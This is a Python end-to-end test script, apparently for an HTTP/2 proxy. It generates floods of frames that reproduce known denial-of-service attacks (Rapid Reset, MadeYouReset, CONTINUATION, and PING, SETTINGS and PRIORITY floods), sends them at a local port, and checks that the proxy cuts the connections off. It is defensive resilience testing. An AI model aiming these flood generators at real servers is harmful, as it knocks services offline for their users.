"""`python -m tests.e2e.flooder PORT ATTACK`: floods one HTTP/2 port from a few connections till standard input closes.

Each sends at full speed until it is cut off or has sent MAX_FRAMES, and is followed by another one. At the end it says
`connections N calm N other N uncut N`: ended with GOAWAY(ENHANCE_YOUR_CALM), ended without one that could be read (the
reset of a socket closed with something unread in it overtakes it), and not ended at all.
"""

import asyncio
import sys
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from contextlib import suppress
from itertools import islice

from h2.errors import ErrorCodes
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.e2e.h2_peer import HEADER_BYTES, PREAMBLE

ATTACKERS = 4
# New connections a second, of all attackers: a proxy cannot refuse those, only survive them.
CONNECTIONS_PER_S = 50
MAX_FRAMES = 20_000
# Seconds after the last frame in which a proxy, however slow its machine, must have cut the connection off.
CUT_OFF_LIMIT_S = 20.0
# That go out in one write.
CHUNK_FRAMES = 100
# POST / of http://reviews, from HPACK's static table but for the authority.
BLOCK = b"\x83\x86\x84\x01\x07reviews"


def _reset() -> Iterator[list[Frame]]:
    """CVE-2023-44487."""
    for stream_id in range(1, MAX_FRAMES, 2):
        yield [_head(stream_id), RstStreamFrame(stream_id, error_code=ErrorCodes.CANCEL)]


def _made_you_reset() -> Iterator[list[Frame]]:
    """CVE-2025-8671: a window over its maximum is a stream error, so the server resets what it has just begun."""
    for stream_id in range(1, MAX_FRAMES, 2):
        yield [_head(stream_id), WindowUpdateFrame(stream_id, window_increment=2**31 - 1)]


def _continuation() -> Iterator[list[Frame]]:
    """CVE-2024-27316."""
    yield [HeadersFrame(1, BLOCK)]
    while True:
        yield [ContinuationFrame(1, b"\x00\x01a\x01b" * 10)]


def _empty_data() -> Iterator[list[Frame]]:
    """CVE-2019-9518."""
    yield [_head(1)]
    while True:
        yield [DataFrame(1)]


def _again(frame: Frame) -> Callable[[], Iterator[list[Frame]]]:
    """CVE-2019-9512 (PING), 9515 (SETTINGS), 9513 (PRIORITY)."""

    def flood() -> Iterator[list[Frame]]:
        while True:
            yield [frame]

    return flood


ATTACKS: dict[str, Callable[[], Iterator[list[Frame]]]] = {
    "reset": _reset,
    "made_you_reset": _made_you_reset,
    "continuation": _continuation,
    "empty_data": _empty_data,
    "settings": _again(SettingsFrame(0)),
    "ping": _again(PingFrame(0, b"12345678")),
    "priority": _again(PriorityFrame(1, depends_on=3)),
    "window_update": _again(WindowUpdateFrame(0, window_increment=1)),
}


def _head(stream_id: int) -> HeadersFrame:
    return HeadersFrame(stream_id, BLOCK, flags=["END_HEADERS"])


def opening(attack: str, count: int) -> bytes:
    """The start of such a connection: a client's preface and so many frames of the attack."""
    flood = (frame.serialize() for frames in ATTACKS[attack]() for frame in frames)
    return PREAMBLE + SettingsFrame(0).serialize() + b"".join(islice(flood, count))


def _chunks(attack: str) -> list[bytes]:
    """Made before the flood, so that it costs this machine little but at the proxy."""
    flood = (frame.serialize() for frames in ATTACKS[attack]() for frame in frames)
    return [b"".join(islice(flood, CHUNK_FRAMES)) for _ in range(MAX_FRAMES // CHUNK_FRAMES)]


async def _attack(port: int, chunks: Sequence[bytes]) -> str:
    """What became of one connection."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    said = asyncio.create_task(_last_goaway(reader))
    writer.write(PREAMBLE + SettingsFrame(0).serialize())
    with suppress(OSError):
        for chunk in chunks:
            writer.write(chunk)
            await writer.drain()
            await asyncio.sleep(0)  # for what has come to be read
            if said.done():
                break
    with suppress(TimeoutError):
        async with asyncio.timeout(CUT_OFF_LIMIT_S):
            code = await asyncio.shield(said)
            writer.close()
            return "calm" if code == ErrorCodes.ENHANCE_YOUR_CALM else "other"
    said.cancel()
    writer.close()
    return "uncut"


async def _last_goaway(reader: asyncio.StreamReader) -> int | None:
    """Its code, once the server has closed; a reset may destroy what was not read yet."""
    code: int | None = None
    with suppress(OSError, asyncio.IncompleteReadError):
        while True:
            head = await reader.readexactly(HEADER_BYTES)
            payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
            if head[3] == GoAwayFrame.type:
                code = int.from_bytes(payload[4:8], "big")
                break
    return code


async def _attack_on_and_on(port: int, chunks: Sequence[bytes], outcomes: Counter[str], ended: asyncio.Event) -> None:
    while not ended.is_set():
        with suppress(OSError):
            outcomes[await _attack(port, chunks)] += 1
        await asyncio.sleep(ATTACKERS / CONNECTIONS_PER_S)


async def main(port: int, name: str) -> None:
    outcomes: Counter[str] = Counter()
    ended, chunks = asyncio.Event(), _chunks(name)
    asyncio.get_running_loop().add_reader(sys.stdin, ended.set)
    print("milliroute: listening flood 127.0.0.1:0", file=sys.stderr, flush=True)
    async with asyncio.TaskGroup() as group:
        for _ in range(ATTACKERS):
            group.create_task(_attack_on_and_on(port, chunks, outcomes, ended))
    counts = " ".join(f"{kind} {outcomes[kind]}" for kind in ("calm", "other", "uncut"))
    print(f"connections {outcomes.total()} {counts}", file=sys.stderr, flush=True)


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]), sys.argv[2]))
